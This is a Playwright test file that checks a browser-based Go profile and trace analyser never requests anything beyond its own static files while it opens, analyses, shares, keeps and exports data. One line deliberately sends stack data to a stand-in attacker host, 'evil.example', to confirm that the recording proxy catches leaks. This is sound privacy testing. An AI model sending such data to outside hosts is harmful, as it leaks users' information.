// That nothing leaves: a browser that can reach nothing but a recorder opens, analyses, shares, keeps and exports, and every
// request it makes is one for a static file of the page's own host.
import { chromium, expect, test, type Page } from "@playwright/test";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { dist, files, host } from "./host";
import { allRead, drop, fixture, heaps, openKept } from "./page";

/** A proxy that all of a browser's traffic goes through, loopback too; lets through what is for `address`, and writes all down. */
async function recorder(address: string) {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    let bytes = 0;
    request.on("data", (part) => { bytes += part.length; });
    request.on("end", async () => {
      seen.push(`${request.method} ${request.url}${bytes ? ` with ${bytes} bytes` : ""}`);
      if (!request.url!.startsWith(address)) return void response.writeHead(403).end();
      const answer = await fetch(request.url!);
      response.writeHead(answer.status, { "content-type": answer.headers.get("content-type") ?? "" }).end(Buffer.from(await answer.arrayBuffer()));
    });
  });
  // What would be https, or a socket.
  server.on("connect", (request, socket) => { seen.push(`CONNECT ${request.url}`); socket.end("HTTP/1.1 403 Forbidden\r\n\r\n"); });
  server.on("upgrade", (request, socket) => { seen.push(`UPGRADE ${request.url}`); socket.destroy(); });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  return { seen, proxy: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, stop: () => { server.closeAllConnections(); server.close(); } };
}

/** What there is to press in the dialog of exports, each saved. */
async function exportAll(page: Page) {
  await page.getByTestId("export").click();
  const dialog = page.getByTestId("export-dialog");
  await expect(dialog.getByRole("heading", { name: "All of it" })).toBeVisible();
  const buttons = dialog.locator("button[data-testid^=export-]");
  const count = await buttons.count();
  for (let at = 0; at < count; at++) {
    const waits = page.waitForEvent("download", { timeout: 20_000 });
    await buttons.nth(at).click();
    await waits.catch(async (error) => { throw new Error(`${await buttons.nth(at).getAttribute("data-testid")}: ${await page.getByTestId("export-words").textContent()} ${error.message}`); });
  }
  await dialog.getByText("Close").click();
  return count;
}

test("opened, analysed, shared, kept and exported, and nothing is asked for but the page's own files", async () => {
  test.setTimeout(180_000);
  const site = await host({ folder: "/some/folder/" });
  const { seen, proxy, stop } = await recorder(site.address);
  const launch = test.info().project.use.launchOptions!;
  const browser = await chromium.launch({ ...launch, proxy: { server: proxy, bypass: "<-loopback>" } });
  const context = await browser.newContext({ baseURL: site.address, viewport: { width: 1440, height: 900 }, serviceWorkers: "allow" });
  const asked: string[] = [];
  context.on("request", (request) => asked.push(`${request.method()} ${request.url()}`));
  const page = await context.newPage();
  await page.goto("./");
  await expect(page.getByTestId("status")).toContainText("Ready");

  await drop(page, [
    ...heaps("leak-retained/go1.27.3"), fixture("go/leak-retained/go1.27.3/trace.out"), fixture("go_gc/gogc.gctrace.txt"),
    fixture("go/custom-pool-lock/go1.27.3/mutex.5.pb.gz"), path.join(dist, "samples/order-service/orders.pooltrace"),
  ]);
  await allRead(page, 10);
  for (const view of ["findings", "heap", "timeline", "states", "contention", "gc", "files"]) {
    await page.getByTestId(`tab-${view}`).click();
    await page.waitForTimeout(400);
  }
  // Shared: both links, then with names hidden.
  await page.getByTestId("tab-findings").click();
  await page.getByTestId("share").click();
  await expect(page.getByTestId("analysis-link")).toBeVisible();
  const link = (await page.getByTestId("analysis-link").textContent())!;
  await page.keyboard.press("Escape");
  // Exported, all that there is in two views.
  let saved = await exportAll(page);
  await page.getByTestId("tab-heap").click();
  await page.getByTestId("heap-flame").click();
  await expect(page.getByTestId("flame")).toBeVisible();
  saved += await exportAll(page);
  expect(saved).toBeGreaterThan(15);
  // Kept, and the copy for the time without a network.
  await openKept(page);
  await page.getByTestId("keep-files").check();
  await expect(page.getByTestId("keep-sum")).toContainText("files");
  await page.evaluate(async () => { await navigator.serviceWorker.ready; });
  // Received, in another tab.
  const other = await context.newPage();
  await other.goto(link);
  await expect(other.getByTestId("finding").first()).toContainText("main.initSession");

  const known = new Set(["", ...files()].map((name) => site.address + name));
  const wrong = (requests: string[]) => requests.filter((request) => {
    const [method, url, more] = request.split(" ");
    return !/^(blob|data):/.test(url) && (method !== "GET" || more !== undefined || !known.has(url.split("#")[0]));
  });
  // The browser asks its maker for updates and the like by itself; pages' requests for those hosts are among `asked`.
  const isBrowsers = (request: string) => /^\S+ (https?:\/\/)?([\w-]+\.)+(google|googleapis|gvt1|gstatic|chromium)\.(com|org)[:/]/.test(request);
  expect(wrong(asked)).toEqual([]);
  expect(wrong(seen).filter((request) => !isBrowsers(request))).toEqual([]);
  // The recorder does record: workers' requests, and what a page would send.
  expect(seen.join("\n")).toContain("heap-worker_bg.wasm");
  expect(seen.join("\n")).toContain("trace-worker_bg.wasm");
  const before = seen.length;
  await page.evaluate(() => fetch("https://evil.example/?stack=main.initSession").catch(() => {}));
  await page.evaluate(() => { navigator.sendBeacon("./", "stack"); });
  await expect.poll(() => wrong(seen.slice(before)).join("\n")).toMatch(/CONNECT evil\.example:443[^]*POST .*with 5 bytes|POST .*with 5 bytes[^]*CONNECT evil/);
  await browser.close();
  stop();
  await site.stop();
});
